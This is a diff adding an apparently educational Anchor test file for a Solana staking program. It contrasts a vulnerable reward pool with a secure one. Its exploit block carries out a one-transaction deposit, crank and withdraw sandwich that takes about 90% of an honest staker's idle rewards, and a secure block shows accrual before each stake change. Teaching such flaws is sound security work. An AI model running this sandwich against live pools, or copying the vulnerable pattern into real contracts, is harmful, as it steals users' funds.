@@ -0,0 +1,181 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey, SystemProgram, Transaction } from "@solana/web3.js";
+import { expect } from "chai";
+import { sleep } from "../../../tests/utils";
+
+describe("48: Reward Crank Timing", () => {
+    const provider = anchor.AnchorProvider.env();
+    anchor.setProvider(provider);
+
+    const program = anchor.workspace.RewardCrankTiming as Program<any>;
+
+    let admin: Keypair;
+    let alice: Keypair;
+    let attacker: Keypair;
+
+    const VULNERABLE_POOL = 1;
+    const SECURE_POOL = 2;
+
+    const RATE = new anchor.BN(1_000_000);
+    const RESERVE = new anchor.BN(LAMPORTS_PER_SOL);
+    const ALICE_STAKE = new anchor.BN(LAMPORTS_PER_SOL);
+    const ATTACKER_STAKE = new anchor.BN(9 * LAMPORTS_PER_SOL);
+    const ACC_PRECISION = new anchor.BN("1000000000000");
+
+    function poolPda(id: number): PublicKey {
+        return PublicKey.findProgramAddressSync(
+            [Buffer.from("pool"), new anchor.BN(id).toArrayLike(Buffer, "le", 8)],
+            program.programId
+        )[0];
+    }
+
+    function positionPda(pool: PublicKey, owner: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync(
+            [Buffer.from("position"), pool.toBuffer(), owner.toBuffer()],
+            program.programId
+        )[0];
+    }
+
+    function userAccounts(id: number, owner: Keypair) {
+        const pool = poolPda(id);
+        return {
+            pool,
+            position: positionPda(pool, owner.publicKey),
+            owner: owner.publicKey,
+            systemProgram: SystemProgram.programId,
+        };
+    }
+
+    /** Creates a funded pool in which Alice has staked 1 SOL. */
+    async function setupPool(id: number, deposit: "vulnerableDeposit" | "secureDeposit") {
+        await program.methods
+            .initializePool(new anchor.BN(id), RATE)
+            .accounts({ pool: poolPda(id), admin: admin.publicKey, systemProgram: SystemProgram.programId })
+            .signers([admin])
+            .rpc();
+
+        await program.methods
+            .fundRewards(RESERVE)
+            .accounts({ pool: poolPda(id), funder: admin.publicKey, systemProgram: SystemProgram.programId })
+            .signers([admin])
+            .rpc();
+
+        for (const owner of [alice, attacker]) {
+            const { pool, position, systemProgram } = userAccounts(id, owner);
+            await program.methods
+                .createPosition()
+                .accounts({ pool, position, owner: owner.publicKey, systemProgram })
+                .signers([owner])
+                .rpc();
+        }
+
+        await program.methods[deposit](ALICE_STAKE).accounts(userAccounts(id, alice)).signers([alice]).rpc();
+    }
+
+    /**
+     * Deposit, crank, withdraw in one transaction: the attacker is staked for
+     * zero slots. Returns the rewards the attacker took.
+     */
+    async function sandwichCrank(id: number, flavour: "vulnerable" | "secure"): Promise<number> {
+        const accounts = userAccounts(id, attacker);
+        const { pool, position, owner } = accounts;
+        const before = (await program.account.pool.fetch(pool)).rewardReserve.toNumber();
+
+        const tx = new Transaction().add(
+            await program.methods[`${flavour}Deposit`](ATTACKER_STAKE).accounts(accounts).instruction(),
+            await program.methods.updatePool().accounts({ pool }).instruction(),
+            await program.methods[`${flavour}Withdraw`](ATTACKER_STAKE).accounts({ pool, position, owner }).instruction()
+        );
+        await provider.sendAndConfirm(tx, [attacker]);
+
+        const after = (await program.account.pool.fetch(pool)).rewardReserve.toNumber();
+        return before - after;
+    }
+
+    /** Alice's rewards at the pool's current accumulator. */
+    async function alicePending(id: number): Promise<number> {
+        const pool = await program.account.pool.fetch(poolPda(id));
+        const position = await program.account.position.fetch(positionPda(poolPda(id), alice.publicKey));
+        return position.amount.mul(pool.accRewardPerShare).div(ACC_PRECISION).sub(position.rewardDebt).toNumber();
+    }
+
+    before(async () => {
+        admin = Keypair.generate();
+        alice = Keypair.generate();
+        attacker = Keypair.generate();
+
+        for (const kp of [admin, alice, attacker]) {
+            const sig = await provider.connection.requestAirdrop(kp.publicKey, 20 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+        }
+    });
+
+    describe("Setup", () => {
+        it("Creates two pools paying 0.001 SOL per slot, each with Alice staking 1 SOL", async () => {
+            await setupPool(VULNERABLE_POOL, "vulnerableDeposit");
+            await setupPool(SECURE_POOL, "secureDeposit");
+        });
+    });
+
+    describe("Exploit: deposit, crank, withdraw after an idle stretch", () => {
+        it("Nobody cranks the pool for a few seconds", async () => {
+            await sleep(5);
+        });
+
+        it("The attacker takes ~90% of the idle rewards while staked for zero slots", async () => {
+            const stolen = await sandwichCrank(VULNERABLE_POOL, "vulnerable");
+            const aliceShare = await alicePending(VULNERABLE_POOL);
+            const share = stolen / (stolen + aliceShare);
+
+            console.log(`  Attacker took ${stolen} lamports, Alice was left ${aliceShare}`);
+            console.log(`  Attacker's share of rewards Alice alone earned: ${(share * 100).toFixed(1)}%`);
+            expect(stolen).to.be.greaterThan(0);
+            expect(share).to.be.closeTo(0.9, 0.01);
+        });
+    });
+
+    describe("Secure: accrue inside every stake change", () => {
+        it("Nobody cranks the pool for a few seconds", async () => {
+            await sleep(5);
+        });
+
+        it("The same sandwich earns the attacker nothing", async () => {
+            const stolen = await sandwichCrank(SECURE_POOL, "secure");
+            const aliceShare = await alicePending(SECURE_POOL);
+
+            console.log(`  Attacker took ${stolen} lamports, Alice keeps ${aliceShare}`);
+            expect(stolen).to.equal(0);
+            expect(aliceShare).to.be.greaterThan(0);
+        });
+
+        it("Alice is paid everything the idle slots earned", async () => {
+            const pending = await alicePending(SECURE_POOL);
+            const before = (await program.account.pool.fetch(poolPda(SECURE_POOL))).rewardReserve.toNumber();
+
+            const { pool, position, owner } = userAccounts(SECURE_POOL, alice);
+            await program.methods.secureClaim().accounts({ pool, position, owner }).signers([alice]).rpc();
+
+            const after = (await program.account.pool.fetch(poolPda(SECURE_POOL))).rewardReserve.toNumber();
+            expect(before - after).to.be.at.least(pending);
+        });
+    });
+
+    describe("Security Comparison", () => {
+        it("Demonstrates the core difference", () => {
+            console.log("\n=== Reward Crank Timing ===\n");
+
+            console.log("VULNERABLE PATTERN:");
+            console.log("  deposit/withdraw/claim use acc_reward_per_share as stored; only update_pool accrues");
+            console.log("  Risk: the crank splits every idle slot over whoever is staked at crank time\n");
+
+            console.log("SECURE PATTERN:");
+            console.log("  accrue(pool, current_slot) at the top of every stake-changing instruction");
+            console.log("  Protection: past slots are settled against the stake that actually earned them\n");
+
+            console.log("KEY INSIGHT:");
+            console.log("  If reward timing depends on who calls a permissionless crank, the caller chooses");
+            console.log("  the split. Settle before the stake changes, not whenever someone remembers to.");
+        });
+    });
+});